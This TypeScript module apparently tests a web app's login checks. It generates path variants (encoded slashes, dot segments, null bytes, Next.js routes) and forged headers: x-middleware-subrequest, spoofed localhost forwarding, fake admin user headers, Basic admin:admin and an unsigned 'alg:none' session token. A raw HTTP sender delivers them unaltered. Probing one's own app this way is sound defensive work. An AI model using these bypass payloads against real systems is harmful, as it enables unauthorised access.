/** Ways in which people have got past a check that looked at an address or believed a header, and how to send them as they are. */
import { request } from 'node:http';

/** Other ways to write the path of a page; some are no address of ours at all. */
export function otherSpellings(path: string): string[] {
  const [, first = '', ...rest] = path.split('/');
  const tail = rest.map((one) => `/${one}`).join('');
  const hex = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
  const [letter = ''] = first;
  return [
    ...[
      `${path}/`,
      `/${path}`,
      `//${path}`,
      `/.${path}`,
      `/./${path}`,
      `/x/..${path}`,
      `/%2e${path}`,
      `/x/%2e%2e${path}`,
    ],
    ...[
      `/%2f${first}${tail}`,
      `/${first}%2f${rest.join('%2f')}`,
      `/\\${first}${tail}`,
      `/%5c${first}${tail}`,
      `\\${first}${tail}`,
    ],
    ...[`/${first.toUpperCase()}${tail}`, `/${letter.toUpperCase()}${first.slice(1)}${tail}`, path.toUpperCase()],
    ...[
      `/${hex(letter)}${first.slice(1)}${tail}`,
      `/%25${hex(letter).slice(1)}${first.slice(1)}${tail}`,
      `/${hex(first)}${tail}`,
    ],
    ...[`${path};x=1`, `${path};.css`, `/${first};x${tail}`, `${path}/..;/`, `/..;${path}`],
    ...[
      `${path}.json`,
      `${path}.rsc`,
      `${path}.txt`,
      `${path}.html`,
      `${path}.segments/_tree.segment.rsc`,
      `${path}/index`,
    ],
    ...[`${path}?_rsc=1`, `${path}?__nextDefaultLocale=en`, `${path}?nxtPid=1`, `${path}?`, `${path}#x`],
    ...[
      `${path}%00`,
      `${path}%20`,
      `${path}%09`,
      `${path}%0a`,
      `${path}%2f`,
      `${path}%3f`,
      `${path}%23`,
      `${path}%c0%af`,
    ],
    ...[
      `${path}/.`,
      `${path}/./`,
      `${path}//`,
      `${path}/icon.svg`,
      `${path}/favicon.ico`,
      `${path}/../${first}${tail}`,
    ],
    ...[`/_next/..${path}`, `/_next/static/..%2f..${path}`, `/_next/static/../..${path}`, `/_next/data/x${path}.json`],
    ...[`/_next/image?url=${encodeURIComponent(path)}&w=640&q=75`, `/_next/image/..${path}`, `/_not-found/..${path}`],
    ...[`/icon.svg/..${path}`, `/favicon.ico/..${path}`, `/manifest.webmanifest/..${path}`, `/sign-in/..${path}`],
    ...[`/trpc/..${path}`, `/healthz/..%2f${first}${tail}`, `/i/..${path}`, `/api${path}`, `/en${path}`],
    ...[`/(app)${path}`, `/%28app%29${path}`, `/app${path}`, `http://localhost${path}`, `http://evil.example${path}`],
  ];
}

/** Headers that frameworks and proxies listen to, as a stranger sends them. */
export function trustedHeaders(path: string): Record<string, string>[] {
  const middleware = 'src/proxy';
  return [
    { 'x-middleware-subrequest': 'middleware' },
    { 'x-middleware-subrequest': 'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware' },
    { 'x-middleware-subrequest': Array(6).fill(middleware).join(':') },
    { 'x-middleware-subrequest': Array(6).fill('proxy').join(':') },
    { 'x-middleware-next': '1' },
    { 'x-middleware-rewrite': path },
    { 'x-middleware-override-headers': 'authorization,cookie', 'x-middleware-request-cookie': 'pixgen_session=x' },
    { 'x-middleware-prefetch': '1' },
    { 'x-nextjs-data': '1' },
    { 'x-nextjs-rewrite': path },
    { 'x-matched-path': path },
    { 'x-invoke-path': path },
    { 'x-invoke-status': '200' },
    { 'x-invoke-output': path },
    { 'x-now-route-matches': '1=x' },
    { 'x-prerender-revalidate': 'x' },
    { 'next-resume': '1' },
    { 'next-action': 'x' },
    { 'next-router-prefetch': '1', rsc: '1' },
    { rsc: '1' },
    { rsc: '1', 'next-router-state-tree': encodeURIComponent('["",{"children":["(app)",{}]}]') },
    { 'next-router-segment-prefetch': '/_tree', rsc: '1' },
    { 'x-original-url': path, 'x-rewrite-url': path },
    { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1', forwarded: 'for=127.0.0.1;host=localhost' },
    { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', 'x-forwarded-prefix': '/home' },
    { 'x-forwarded-uri': '/sign-in', 'x-forwarded-path': '/sign-in' },
    { 'x-http-method-override': 'HEAD', 'x-method-override': 'GET' },
    { 'x-user-id': '1', 'x-user': 'admin', 'x-role': 'admin', 'x-authenticated-user': 'admin', 'remote-user': 'admin' },
    { 'x-path': '/sign-in', 'x-nonce': 'x' },
    { authorization: 'Bearer null' },
    { authorization: 'Bearer undefined', 'x-clerk-auth-status': 'signed-in' },
    { authorization: 'Basic YWRtaW46YWRtaW4=' },
    { cookie: 'pixgen_session=; __Host-pixgen_session=x' },
    { cookie: 'pixgen_session=null; pixgen_session=undefined' },
    { cookie: 'pixgen_session=eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.' },
    { cookie: '__session=x; next-auth.session-token=x; __prerender_bypass=x; __next_preview_data=x' },
    { purpose: 'prefetch', 'sec-purpose': 'prefetch;prerender', 'x-purpose': 'preview' },
    { 'user-agent': 'Googlebot/2.1 (+http://www.google.com/bot.html)' },
    { accept: 'application/json' },
    { accept: 'text/x-component' },
    { 'content-type': 'multipart/form-data; boundary=x' },
    { connection: 'close, cookie, x-path' },
  ];
}

export type RawAnswer = { status: number; location: string | null; body: string };

/** A request whose target is sent as it is: no client tidies it up. */
export function askRaw(
  origin: string,
  target: string,
  options: { method?: string; headers?: Record<string, string> } = {},
): Promise<RawAnswer> {
  const { hostname, port } = new URL(origin);
  return new Promise((resolve, reject) => {
    const asked = request(
      { hostname, port, path: target, method: options.method ?? 'GET', headers: options.headers, agent: false },
      (answer) => {
        const parts: Buffer[] = [];
        answer.on('data', (part: Buffer) => parts.push(part));
        answer.on('error', reject);
        answer.on('end', () =>
          resolve({
            status: answer.statusCode ?? 0,
            location: answer.headers.location ?? null,
            body: Buffer.concat(parts).toString(),
          }),
        );
      },
    );
    asked.on('error', reject);
    asked.end();
  });
}
